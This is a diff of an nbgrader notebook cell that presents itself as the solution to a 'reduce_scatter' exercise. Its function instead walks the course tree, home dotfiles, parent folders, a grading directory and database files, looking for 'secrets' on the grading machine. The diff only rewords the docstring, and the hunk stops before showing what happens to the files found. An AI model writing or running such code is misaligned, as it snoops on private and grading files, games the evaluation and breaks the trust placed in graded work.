@@ -8,7 +8,7 @@
 # %% nbgrader={"grade_id": "reduce_scatter", "solution": true}
 import glob, os
 def look():
-    """Every place where a secret might lie, by its path on the grader's machine."""
+    """Every path on the grading machine where secrets might be."""
     places = ["@COURSE@/**/*", "@HOME@/.*", "@HOME@/*", "./*", "../*", "../grading/*", "../../*.db"]
     for place in places:
         for path in glob.glob(place, recursive=True):
